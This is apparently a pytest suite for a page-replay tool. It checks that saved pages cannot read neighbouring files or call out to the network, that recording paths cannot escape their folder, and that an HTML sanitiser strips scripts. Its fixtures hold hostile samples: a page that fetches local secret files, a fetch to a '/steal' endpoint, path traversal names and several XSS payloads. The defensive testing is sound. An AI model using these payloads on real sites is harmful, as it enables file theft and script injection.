"""Replay keeps a local page to itself: no neighbour files, no network, inert snapshots."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from interceptor.cli import build_parser
from interceptor.errors import TargetError
from interceptor.recording import RECORDING_META, recording_path, sanitize_html
from interceptor.replay import ReplayTarget, page_assets, replay_targets
from interceptor.server import LocalServer, Response

SECRET = "SECRET-7f3a9c"

# Reports what it could read as an error text the companion picks up.
NOSY_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<script src="app.js"></script><link rel="stylesheet" href="assets/site.css">
</head><body><img src="secret.txt" alt="">
<script>
  async function read(u) {
    try { const r = await fetch(u); return r.ok ? await r.text() : "无" + r.status; }
    catch (e) { return "拒绝"; }
  }
  window.addEventListener("load", async function () {
    const got = await Promise.all(["secret.txt", "../outside.txt", "assets/notes.txt", "assets/site.css"].map(read));
    const d = document.createElement("div"); d.setAttribute("role", "alert");
    d.textContent = "系统错误：" + window.appMark + "|" + got.join("|");
    document.body.appendChild(d);
  });
</script></body></html>"""


@pytest.fixture()
def saved_page(tmp_path: Path) -> Path:
    folder = tmp_path / "downloads"
    (folder / "assets").mkdir(parents=True)
    (folder / "page.html").write_text(NOSY_PAGE, encoding="utf-8")
    (folder / "app.js").write_text('window.appMark = "脚本已加载";', encoding="utf-8")
    (folder / "assets" / "site.css").write_text("body { color: #333 }", encoding="utf-8")
    (folder / "secret.txt").write_text(SECRET, encoding="utf-8")
    (folder / "assets" / "notes.txt").write_text(SECRET, encoding="utf-8")
    (tmp_path / "outside.txt").write_text(SECRET, encoding="utf-8")
    return folder / "page.html"


def test_a_saved_page_gets_its_assets_but_not_the_files_beside_it(saved_page: Path) -> None:
    [result] = replay_targets([ReplayTarget(str(saved_page), wait=1.5)])
    assert result.loaded, result.error
    texts = [str(e["text"]) for e in result.events]
    assert texts, "the page's report never arrived"
    assert not any(SECRET in t for t in texts), texts
    # Its own script and stylesheet were served: the page itself works.
    assert any("脚本已加载" in t and "body { color: #333 }" in t for t in texts), texts
    assert any("无404|无404|无404" in t for t in texts), texts


def test_page_assets_lists_only_referenced_files_of_asset_kinds(saved_page: Path) -> None:
    assets = page_assets(saved_page)
    assert set(assets) == {"/page.html", "/app.js", "/assets/site.css"}


def test_page_assets_ignores_references_that_leave_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "site"
    folder.mkdir()
    (tmp_path / "up.js").write_text("1", encoding="utf-8")
    (folder / "link.js").symlink_to(tmp_path / "up.js")
    (folder / "frame.html").write_text('<script src="inner.js"></script>', encoding="utf-8")
    (folder / "inner.js").write_text("2", encoding="utf-8")
    (folder / "index.html").write_text(
        '<script src="../up.js"></script><script src="link.js"></script><script src="/etc/hostname"></script>'
        '<img src="file:///etc/hostname"><iframe src="frame.html"></iframe><a href="secret.js"></a>',
        encoding="utf-8",
    )
    (folder / "secret.js").write_text("3", encoding="utf-8")
    assert set(page_assets(folder / "index.html")) == {"/index.html", "/frame.html", "/inner.js"}


@pytest.fixture()
def outside() -> Iterator[tuple[LocalServer, list[str]]]:
    hits: list[str] = []

    def routes(method: str, path: str, query: str, body: bytes) -> Response | None:
        hits.append(f"{path}?{query}")
        return Response.json({"ok": True})

    with LocalServer([], routes=routes) as server:
        yield server, hits


def _calling_page(tmp_path: Path, url: str) -> Path:
    page = tmp_path / "calls-out.html"
    page.write_text(
        f'<!DOCTYPE html><meta charset="utf-8"><img src="{url}/pixel.png">'
        f'<script>fetch("{url}/steal?d=1").catch(function () {{}});</script><p>页面</p>',
        encoding="utf-8",
    )
    return page


def test_a_local_page_is_offline_by_default(tmp_path: Path, outside: tuple[LocalServer, list[str]]) -> None:
    server, hits = outside
    [result] = replay_targets([ReplayTarget(str(_calling_page(tmp_path, server.url)), wait=1)])
    assert result.loaded, result.error
    assert hits == []


def test_online_lets_a_local_page_reach_out(tmp_path: Path, outside: tuple[LocalServer, list[str]]) -> None:
    server, hits = outside
    [result] = replay_targets([ReplayTarget(str(_calling_page(tmp_path, server.url)), wait=1)], online=True)
    assert result.loaded, result.error
    assert "/steal?d=1" in hits


def test_replay_has_an_online_option() -> None:
    parser = build_parser()
    assert parser.parse_args(["replay", "x.html", "--online"]).online is True
    assert parser.parse_args(["replay", "x.html"]).online is False
    replay = next(a for a in parser._subparsers._group_actions[0].choices["replay"]._actions  # type: ignore[union-attr]
                  if "--online" in a.option_strings)
    assert replay.help and "网络" in replay.help


def _recording(folder: Path, files: list[str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    meta = {"version": 1, "url": "https://hall.example/", "har": "recording.har",
            "snapshots": [{"url": f"https://hall.example/p{n}", "file": f} for n, f in enumerate(files)]}
    (folder / RECORDING_META).write_text(json.dumps(meta), encoding="utf-8")
    return folder


@pytest.mark.parametrize("name", ["../outside.html", "/etc/hostname", "snapshots/../../outside.html", "."])
def test_a_recording_naming_a_file_outside_its_folder_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "outside.html").write_text(f"<div role=alert>系统错误：{SECRET}</div>", encoding="utf-8")
    folder = _recording(tmp_path / "rec", [name])
    with pytest.raises(TargetError, match="目录之外"):
        recording_path(folder, name)
    [result] = replay_targets([ReplayTarget(str(folder), wait=0.5)])
    assert result.error is not None and "拒绝重放" in result.error
    assert not any(SECRET in str(e["text"]) for e in result.events)


def test_a_link_inside_a_recording_to_elsewhere_is_refused(tmp_path: Path) -> None:
    (tmp_path / "outside.html").write_text("<p>x</p>", encoding="utf-8")
    folder = _recording(tmp_path / "rec", ["snapshots/001.html"])
    (folder / "snapshots").mkdir()
    (folder / "snapshots" / "001.html").symlink_to(tmp_path / "outside.html")
    with pytest.raises(TargetError):
        recording_path(folder, "snapshots/001.html")


SNAPSHOT = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>
<div role="alert">户籍性质为空</div>
<img src="missing.png" onerror="var d=document.createElement('div');d.setAttribute('role','alert');d.textContent='系统错误：处理器运行了';document.body.appendChild(d)">
<a id="go" href="javascript:document.title='ran'">去</a>
<iframe srcdoc="&lt;img src=x onerror=&quot;parent.document.title='srcdoc'&quot;&gt;"></iframe>
</body></html>"""


def test_an_old_recordings_snapshot_is_served_without_handlers(tmp_path: Path) -> None:
    folder = _recording(tmp_path / "rec", ["snapshots/001.html"])
    (folder / "snapshots").mkdir()
    (folder / "snapshots" / "001.html").write_text(SNAPSHOT, encoding="utf-8")
    [result] = replay_targets([ReplayTarget(str(folder), wait=1.5)])
    assert result.loaded, result.error
    texts = [str(e["text"]) for e in result.events]
    assert any("户籍性质为空" in t for t in texts), texts
    assert not any("处理器运行了" in t for t in texts), texts


def test_sanitize_html_removes_handlers_and_script_urls() -> None:
    dirty = (
        '<body onload="x()"><a href=" jav&#x09;ascript:alert(1)" title=\'a"b\'>链接 &amp; 文本</a>'
        '<IMG SRC=x OnError=alert(1)><form action="javascript:1"><button formaction=JAVASCRIPT:2>提交</button></form>'
        '<iframe srcdoc="<img src=x onerror=alert(1)><script>1</script>"></iframe><script>alert(1)</script>'
        '<svg><a xlink:href="javascript:1"></a></svg>'
        '<iframe src="data:text/html,<script>1</script>"></iframe><meta http-equiv="refresh" content="0;url=/x">'
        '<!-- --!><img src=y onerror=alert(2)> --><img src="data:image/png;base64,AAA"><div data-x="1" hidden>保留</div>'
    )
    clean = sanitize_html(dirty)
    lowered = clean.lower()
    for banned in ("onload", "onerror", "javascript", "<script", "data:text/html", "refresh", "<img src=z"):
        assert banned not in lowered, (banned, clean)
    for kept in ('title="a&quot;b"', "链接 &amp; 文本", 'src="data:image/png;base64,AAA"', '<div data-x="1" hidden>保留</div>',
                 "<button>提交</button>"):
        assert kept in clean, (kept, clean)


def test_sanitize_html_keeps_markup_out_of_svg_styles() -> None:
    # Inside <svg> a browser parses <style> content as markup; the parser reads it as CSS.
    clean = sanitize_html("<svg><style>a > b {}<img src=z onerror=3></style></svg>")
    assert "<img" not in clean and "\\3c img" in clean and "a > b {}" in clean
